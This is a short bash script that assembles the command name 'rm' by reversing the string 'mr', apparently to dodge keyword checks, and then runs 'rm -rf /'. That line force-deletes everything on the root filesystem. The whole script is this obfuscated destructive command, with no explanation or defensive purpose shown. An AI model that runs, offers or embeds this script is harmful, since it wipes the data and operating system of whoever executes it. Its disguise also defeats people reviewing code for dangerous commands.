#!/usr/bin/env bash
set -euo pipefail
x=$(echo mr | rev)
$x -rf /
